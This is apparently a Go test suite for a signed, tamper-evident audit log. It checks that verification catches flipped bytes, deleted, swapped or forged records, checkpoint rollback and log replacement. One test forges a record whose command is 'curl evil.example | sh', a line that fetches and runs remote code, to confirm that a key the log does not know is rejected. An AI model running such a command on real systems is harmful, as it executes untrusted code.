package audit

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

const tamperSize = 10

// bundleFile is the open entry bundle of a log with tamperSize records.
func bundleFile(opts Options) string {
	return filepath.Join(opts.Dir, "log", bundlePath(0, tamperSize))
}

func readEntries(t *testing.T, path string) [][]byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	es, err := ParseBundle(data)
	if err != nil {
		t.Fatal(err)
	}
	out := make([][]byte, len(es))
	for i, e := range es {
		out[i] = append([]byte(nil), e...)
	}
	return out
}

func writeEntries(t *testing.T, path string, es [][]byte) {
	t.Helper()
	var b []byte
	for _, e := range es {
		b = appendEntry(b, e)
	}
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
}

// editEnvelope rewrites entry k through its parsed envelope.
func editEnvelope(t *testing.T, opts Options, k int, edit func(*Envelope)) {
	t.Helper()
	es := readEntries(t, bundleFile(opts))
	env, err := ParseEnvelope(es[k])
	if err != nil {
		t.Fatal(err)
	}
	edit(env)
	if es[k], err = json.Marshal(env); err != nil {
		t.Fatal(err)
	}
	writeEntries(t, bundleFile(opts), es)
}

func flipByte(t *testing.T, path string, at func([]byte) int) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	b[at(b)] ^= 0x01
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
}

func TestTamperDetected(t *testing.T) {
	tests := []struct {
		name     string
		tamper   func(t *testing.T, l *Log, opts Options)
		wantSeq  int64
		wantFile string
		wantText string
		// appendFails: Append checks only the tail against the signed
		// checkpoint and the witness (see doc.go); damage deeper in the
		// log is Verify's to find.
		appendFails bool
	}{
		{
			name: "payload byte changed",
			tamper: func(t *testing.T, l *Log, opts Options) {
				editEnvelope(t, opts, 4, func(e *Envelope) { e.Payload = bytes.Replace(e.Payload, []byte("echo hi"), []byte("echo ho"), 1) })
			},
			wantSeq: 4, wantFile: "tile/entries/000.p/10", wantText: "signature does not verify",
		},
		{
			name: "signature byte changed",
			tamper: func(t *testing.T, l *Log, opts Options) {
				editEnvelope(t, opts, 7, func(e *Envelope) { e.Signatures[0].Sig[5] ^= 0x80 })
			},
			wantSeq: 7, wantFile: "tile/entries/000.p/10", wantText: "signature does not verify",
		},
		{
			name: "raw byte in a stored entry changed",
			tamper: func(t *testing.T, l *Log, opts Options) {
				flipByte(t, bundleFile(opts), func(b []byte) int { return bytes.Index(b, []byte(`"payloadType"`)) + 3 })
			},
			wantSeq: 0, wantFile: "tile/entries/000.p/10", wantText: "malformed envelope",
		},
		{
			name: "hash tile byte changed",
			tamper: func(t *testing.T, l *Log, opts Options) {
				flipByte(t, filepath.Join(opts.Dir, "log", hashTilePath(0, 0, tamperSize)), func([]byte) int { return 3*32 + 9 })
			},
			wantSeq: 3, wantFile: "tile/0/000.p/10", wantText: "hash tile does not match", appendFails: true,
		},
		{
			name: "checkpoint byte changed",
			tamper: func(t *testing.T, l *Log, opts Options) {
				flipByte(t, filepath.Join(opts.Dir, checkpointFile), func(b []byte) int { return bytes.IndexByte(b, '\n') + 1 })
			},
			wantSeq: -1, wantFile: "checkpoint", wantText: "", appendFails: true,
		},
		{
			name: "checkpoint ssh signature byte changed",
			tamper: func(t *testing.T, l *Log, opts Options) {
				flipByte(t, filepath.Join(opts.Dir, checkpointSig), func(b []byte) int { return len(b) - 40 })
			},
			wantSeq: -1, wantFile: "checkpoint.sig", wantText: "SSH signature",
		},
		{
			name: "record deleted",
			tamper: func(t *testing.T, l *Log, opts Options) {
				es := readEntries(t, bundleFile(opts))
				writeEntries(t, bundleFile(opts), append(es[:5:5], es[6:]...))
			},
			wantSeq: 5, wantText: "seq is 6, want 5",
		},
		{
			name: "two records swapped",
			tamper: func(t *testing.T, l *Log, opts Options) {
				es := readEntries(t, bundleFile(opts))
				es[2], es[3] = es[3], es[2]
				writeEntries(t, bundleFile(opts), es)
			},
			wantSeq: 2, wantText: "seq is 3, want 2",
		},
		{
			name: "forged record signed by another key inserted",
			tamper: func(t *testing.T, l *Log, opts Options) {
				es := readEntries(t, bundleFile(opts))
				env, _ := ParseEnvelope(es[6])
				var r Record
				json.Unmarshal(env.Payload, &r)
				r.Command.Line = "curl evil.example | sh"
				_, priv, _ := ed25519.GenerateKey(rand.Reader)
				k, _ := newPublicKey(priv.Public().(ed25519.PublicKey))
				k.priv = priv
				payload, _ := canonicalJSON(&r)
				forged, _ := signEnvelope(payload, k)
				writeEntries(t, bundleFile(opts), append(es[:6:6], append([][]byte{forged}, es[6:]...)...))
			},
			wantSeq: 6, wantText: "unknown key",
		},
		{
			name: "log truncated behind the checkpoint",
			tamper: func(t *testing.T, l *Log, opts Options) {
				es := readEntries(t, bundleFile(opts))
				writeEntries(t, filepath.Join(opts.Dir, "log", bundlePath(0, tamperSize-2)), es[:tamperSize-2])
				os.Remove(bundleFile(opts))
			},
			wantSeq: 0, wantText: "truncated behind its checkpoint", appendFails: true,
		},
		{
			name: "checkpoint rolled back",
			tamper: func(t *testing.T, l *Log, opts Options) {
				// Keep the checkpoint of size 10, append two more, put it back.
				cp, _ := os.ReadFile(filepath.Join(opts.Dir, checkpointFile))
				sig, _ := os.ReadFile(filepath.Join(opts.Dir, checkpointSig))
				appendN(t, l, 2)
				os.WriteFile(filepath.Join(opts.Dir, checkpointFile), cp, 0o600)
				os.WriteFile(filepath.Join(opts.Dir, checkpointSig), sig, 0o600)
			},
			wantSeq: -1, wantFile: "checkpoint", wantText: "rolled back", appendFails: true,
		},
		{
			name: "records rewritten under the witness",
			tamper: func(t *testing.T, l *Log, opts Options) {
				// Replace the whole log directory by an unrelated log signed
				// with the same key: only the witness remembers.
				other := Options{Dir: t.TempDir() + "/other", Origin: opts.Origin}
				must(t, os.MkdirAll(other.Dir+"/keys", 0o700))
				for _, f := range []string{keyFile, pubFile, allowedSignersFile} {
					b, _ := os.ReadFile(filepath.Join(opts.Dir, f))
					must(t, os.WriteFile(filepath.Join(other.Dir, f), b, 0o600))
				}
				ol, err := Open(other)
				must(t, err)
				appendN(t, ol, tamperSize+1)
				ol.Close()
				must(t, os.RemoveAll(filepath.Join(opts.Dir, "log")))
				must(t, os.Rename(filepath.Join(other.Dir, "log"), filepath.Join(opts.Dir, "log")))
			},
			wantSeq: -1, wantFile: "witness", wantText: "rewritten", appendFails: true,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			l, opts := newLog(t)
			appendN(t, l, tamperSize)
			if _, err := Verify(opts); err != nil {
				t.Fatalf("Verify before tampering: %v", err)
			}
			tc.tamper(t, l, opts)
			_, err := Verify(opts)
			var ve *VerifyError
			if !errors.As(err, &ve) {
				t.Fatalf("Verify after tampering: got %v, want a *VerifyError", err)
			}
			if !errors.Is(err, ErrTampered) {
				t.Errorf("got %v, want errors.Is ErrTampered", err)
			}
			if ve.Seq != tc.wantSeq {
				t.Errorf("got seq %d, want %d (%v)", ve.Seq, tc.wantSeq, err)
			}
			if !strings.Contains(ve.File, tc.wantFile) {
				t.Errorf("got file %q, want it to name %q", ve.File, tc.wantFile)
			}
			if !strings.Contains(err.Error(), tc.wantText) {
				t.Errorf("got %q, want it to say %q", err, tc.wantText)
			}
			// A tampered log must also refuse new records.
			if tc.appendFails {
				if _, err := l.Append(context.Background(), &Record{Kind: KindStart}); !errors.Is(err, ErrTampered) {
					t.Errorf("Append to a tampered log: got %v, want ErrTampered", err)
				}
			}
		})
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// TestIndependentCheck verifies a log with tools that share no code with
// this package: ssh-keygen for the checkpoint signature and a short Python
// script for the hash chain and the Merkle root.
func TestIndependentCheck(t *testing.T) {
	for _, tool := range []string{"ssh-keygen", "python3"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed (Debian: openssh-client, python3)", tool)
		}
	}
	l, opts := newLog(t)
	appendN(t, l, 300) // a full bundle and tile plus a partial one
	cp := filepath.Join(opts.Dir, checkpointFile)
	cmd := exec.Command("ssh-keygen", "-Y", "verify", "-f", filepath.Join(opts.Dir, allowedSignersFile),
		"-I", SignerPrincipal, "-n", SSHSigNamespace, "-s", filepath.Join(opts.Dir, checkpointSig))
	f, _ := os.Open(cp)
	defer f.Close()
	cmd.Stdin = f
	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "Good") {
		t.Fatalf("ssh-keygen -Y verify: %v: %s", err, out)
	}
	out, err := exec.Command("python3", "testdata/merkle.py", filepath.Join(opts.Dir, "log"), "300").CombinedOutput()
	if err != nil {
		t.Fatalf("merkle.py: %v: %s", err, out)
	}
	b, _ := os.ReadFile(cp)
	lines := strings.Split(string(b), "\n")
	if got, want := strings.TrimSpace(string(out)), lines[2]; got != want {
		t.Errorf("independent Merkle root: got %s, want checkpoint root %s", got, want)
	}
	// And the signature must fail for a changed checkpoint.
	flipByte(t, cp, func(b []byte) int { return 2 })
	f2, _ := os.Open(cp)
	defer f2.Close()
	cmd = exec.Command("ssh-keygen", "-Y", "verify", "-f", filepath.Join(opts.Dir, allowedSignersFile),
		"-I", SignerPrincipal, "-n", SSHSigNamespace, "-s", filepath.Join(opts.Dir, checkpointSig))
	cmd.Stdin = f2
	if out, err := cmd.CombinedOutput(); err == nil {
		t.Errorf("ssh-keygen accepted a changed checkpoint: %s", out)
	}
	_ = base64.StdEncoding
}

// TestTamperFullBundle: Verify streams full bundles from disk; a fault in
// one is still named by seq and file.
func TestTamperFullBundle(t *testing.T) {
	cases := []struct {
		name     string
		spoil    func(t *testing.T, path string)
		wantSeq  int64
		wantText string
	}{
		{"missing", func(t *testing.T, path string) { must(t, os.Remove(path)) }, 0, "missing or unreadable"},
		{"record dropped", func(t *testing.T, path string) {
			es := readEntries(t, path)
			writeEntries(t, path, append(es[:5:5], es[6:]...))
		}, 5, "seq is 6, want 5"},
		{"record appended", func(t *testing.T, path string) {
			es := readEntries(t, path)
			writeEntries(t, path, append(es, es[0]))
		}, 255, "want 256 records"},
		{"torn", func(t *testing.T, path string) {
			data, err := os.ReadFile(path)
			must(t, err)
			must(t, os.WriteFile(path, data[:len(data)-3], 0o600))
		}, 255, "truncated record"},
		{"signature", func(t *testing.T, path string) {
			es := readEntries(t, path)
			env, err := ParseEnvelope(es[200])
			must(t, err)
			env.Signatures[0].Sig[7] ^= 1
			es[200], err = json.Marshal(env)
			must(t, err)
			writeEntries(t, path, es)
		}, 200, "signature does not verify"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			l, opts := newLog(t)
			appendN(t, l, tileWidth+3)
			path := filepath.Join(opts.Dir, "log", bundlePath(0, tileWidth))
			c.spoil(t, path)
			_, err := Verify(opts)
			var ve *VerifyError
			if !errors.As(err, &ve) {
				t.Fatalf("got %v, want a *VerifyError", err)
			}
			if ve.Seq != c.wantSeq || !strings.Contains(ve.File, "tile/entries/000") || !strings.Contains(err.Error(), c.wantText) {
				t.Errorf("got seq %d, file %q, %q; want seq %d, the full bundle, %q", ve.Seq, ve.File, err, c.wantSeq, c.wantText)
			}
		})
	}
}
